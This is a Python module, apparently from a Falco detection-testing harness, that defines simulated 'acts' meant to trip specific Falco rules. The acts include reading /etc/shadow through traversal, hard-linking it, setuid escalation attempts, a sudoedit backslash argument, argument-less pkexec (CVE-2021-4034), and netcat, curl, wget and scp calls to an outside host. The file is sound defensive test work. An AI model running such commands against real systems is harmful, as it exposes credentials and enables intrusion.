"""Acts for rules of Falco's files that the packs have no like of."""

from __future__ import annotations

import os
import socket
import sys
import time
from contextlib import suppress

from sidekick.acts import kernel_calls as kernel
from sidekick.acts.act import Act, Perform
from sidekick.acts.files import read, written
from sidekick.acts.network import connected
from sidekick.acts.programs import started
from sidekick.acts.scene import ELSEWHERE, Scene

_DAEMON = 1
_TRUSTED_SECS = 5.2
"""Longer than a process is new to Falco's rules."""


def _python(name: str, code: str) -> Perform:
    """An act of a program of that name, which is Python and does what the code says."""

    def perform(scene: Scene) -> None:
        program = scene.folder / name
        program.symlink_to(os.path.realpath(sys.executable))
        arguments = [str(program), "-I", "-c", code]
        scene.below(("bash",), lambda: os.execv(program, arguments))

    return perform


def _climbs(scene: Scene) -> None:
    scene.read("/etc/../etc/../etc/shadow", by="implant")


def _reads_late(scene: Scene) -> None:
    time.sleep(_TRUSTED_SECS)
    scene.read("/etc/shadow", by="httpd")


def _as_daemon(scene: Scene) -> None:
    program = scene.program("id")

    def become() -> None:
        os.setresgid(_DAEMON, _DAEMON, _DAEMON)
        os.setresuid(_DAEMON, _DAEMON, _DAEMON)
        os.execv(program, ["id"])

    scene.folder.chmod(0o755)
    scene.below(("sshd", "bash"), become)


def _wants_root_back(scene: Scene) -> None:
    os.setresuid(_DAEMON, _DAEMON, _DAEMON)
    scene.call_myself("implant")
    with suppress(PermissionError):
        os.setuid(0)


def _hard_link(scene: Scene) -> None:
    scene.call_myself("ln")
    os.link("/etc/shadow", "/etc/act")


def _datagrams(scene: Scene) -> None:
    scene.call_myself("implant")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.connect((ELSEWHERE, 22))


def _first_process(scene: Scene) -> None:
    kernel.unshare(kernel.CLONE_NEWPID)
    program = scene.program("app")
    scene.below((), lambda: os.execv(program, ["app"]))


def _copied_out(scene: Scene) -> None:
    data = scene.folder / "data"
    data.touch()
    scene.below(("runc",), lambda: scene.read(str(data), by="tar"))


def _backdoored(scene: Scene) -> None:
    library = scene.folder / "liblzma.so.5.6.1"
    library.touch()
    scene.read(str(library), by="sshd")


def _accepts(scene: Scene) -> None:
    server = socket.create_server((ELSEWHERE, 8080))
    client = socket.create_connection((ELSEWHERE, 8080))
    scene.call_myself("python3")
    server.accept()[0].close()
    client.close()


def _made_executable(scene: Scene) -> None:
    path = scene.folder / "tool"
    path.touch(0o600)
    scene.call_myself("chmod")
    path.chmod(0o755)


def _created_executable(scene: Scene) -> None:
    scene.call_myself("implant")
    os.close(os.open(scene.folder / "tool", os.O_CREAT | os.O_WRONLY, 0o755))


def _renames_program(scene: Scene) -> None:
    scene.call_myself("mv")
    os.rename("/usr/sbin/act", "/usr/sbin/other")


def _makes_program_folder(scene: Scene) -> None:
    scene.call_myself("mkdir")
    os.mkdir("/usr/sbin/act")


_CLASS = f"""
import socket
a = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
a.bind(({ELSEWHERE!r}, 9000))
b = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
b.sendto(bytes.fromhex("cafebabe0000"), ({ELSEWHERE!r}, 9000))
a.recvfrom(100)
"""
_SSH = f"""
import socket
server = socket.create_server(({ELSEWHERE!r}, 443))
socket.create_connection(({ELSEWHERE!r}, 443))
"""

ACTS = (
    Act("climb-folders", _climbs, ("Password file read",),
        ("Directory traversal monitored file read",), files={"/etc/shadow": ""}),
    Act("read-shadow-late", _reads_late, ("Password file read",),
        ("Read sensitive file trusted after startup",), files={"/etc/shadow": ""}),
    Act("system-user-interactive", _as_daemon, falco=("System user interactive",)),
    Act("want-root-back", _wants_root_back, falco=("Non sudo setuid",)),
    Act("hard-link-to-shadow", _hard_link, falco=("Create Hardlink Over Sensitive Files",),
        files={"/etc/shadow": ""}),
    Act("ssh-to-odd-port", _python("ssh", _SSH),
        falco=("Disallowed SSH Connection Non Standard Port",), network=True),
    Act("database-starts-program", started("ls", parents=("mysqld",)),
        falco=("DB program spawned process",)),
    Act("start-of-a-container", _first_process,
        falco=("Launch Excessively Capable Container", "Launch Sensitive Mount Container",
               "Container Run as Root User"),
        container=True),
    Act("proxy-by-environment",
        started("curl", environment={"HTTP_PROXY": f"http://{ELSEWHERE}"}),
        falco=("Program run with disallowed http proxy env",)),
    Act("tunables-by-environment",
        started("program", environment={"GLIBC_TUNABLES": "glibc.malloc.mxfast=1"}),
        falco=("Potential Local Privilege Escalation via Environment Variables Misuse",)),
    Act("odd-datagrams", _datagrams, falco=("Unexpected UDP Traffic",), network=True),
    Act("file-below-dev", written("/dev/act"), falco=("Create files below dev",),
        files={"/dev/": ""}),
    Act("scan-network-from-host", started("nmap", "-sn", ELSEWHERE),
        falco=("Launch Suspicious Network Tool on Host",)),
    Act("copy-to-elsewhere", started("scp", "x", f"{ELSEWHERE}:"),
        falco=("Launch Remote File Copy Tools in Container",), container=True),
    Act("copy-from-elsewhere", started("wget", f"http://{ELSEWHERE}/"),
        falco=("Launch Ingress Remote File Copy Tools in Container",), container=True),
    Act("read-own-environment", read("/proc/self/environ"),
        falco=("Read environment variable from /proc files",), container=True),
    Act("copy-out-of-a-pod", _copied_out,
        falco=("Exfiltrating Artifacts via Kubernetes Control Plane",), container=True),
    Act("backdoored-library", _backdoored,
        falco=("Backdoored library loaded into SSHD (CVE-2024-3094)",)),
    Act("accept-from-elsewhere", _accepts,
        falco=("Unexpected inbound connection source",
               "Interpreted procs inbound network activity"), network=True),
    Act("interpreter-connects", connected(ELSEWHERE, 80, by="lua"),
        falco=("Interpreted procs outbound network activity",), network=True),
    Act("connect-to-node-port", connected(ELSEWHERE, 30080, by="implant"),
        falco=("Unexpected K8s NodePort Connection",), container=True, network=True),
    Act("make-executable", _made_executable, falco=("Container Drift Detected (chmod)",),
        container=True),
    Act("create-executable", _created_executable,
        falco=("Container Drift Detected (open+create)",), container=True),
    Act("sudo-with-backslash", started("sudoedit", "-u", "daemon", "-s", "ls\\"),
        ("Command run as another user",), ("Sudo Potential Privilege Escalation",)),
    Act("pkexec-without-arguments", started("pkexec"), ("Command run as another user",),
        ("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",)),
    Act("class-from-elsewhere", _python("java", _CLASS),
        falco=("Java Process Class File Download",), network=True),
    Act("look-around", started("whoami", tty=True), falco=("Basic Interactive Reconnaissance",)),
    Act("npm-starts-netcat", started("nc", ELSEWHERE, "80", parents=("npm", "sh")),
        falco=("Network Tool Executed During NPM Package Install",), container=True),
    Act("web-server-starts-curl", started("curl", ELSEWHERE, parents=("apache2",)),
        falco=("Web Server Spawned Suspicious Child Process",)),
    Act("read-shell-start", read("/root/.bashrc"), falco=("Read Shell Configuration File",),
        files={"/root/.bashrc": ""}),
    Act("add-package-source", written("/etc/apt/sources.list.d/act.list"),
        ("File below /etc written",), ("Update Package Repository",), files={"/etc/": ""}),
    Act("write-own-program", written("/usr/local/bin/act"), falco=("Write below monitored dir",),
        files={"/usr/local/": ""}),
    Act("write-below-root", written("/root/act"), falco=("Write below root",),
        files={"/root/": ""}),
    Act("write-rpm-database", written("/var/lib/rpm/act"), falco=("Write below rpm database",),
        files={"/var/lib/": ""}),
    Act("rename-program", _renames_program, ("System program changed",), ("Modify binary dirs",),
        files={"/usr/sbin/act": ""}),
    Act("folder-among-programs", _makes_program_folder, falco=("Mkdir binary dirs",),
        files={"/usr/sbin/": ""}),
)  # fmt: skip
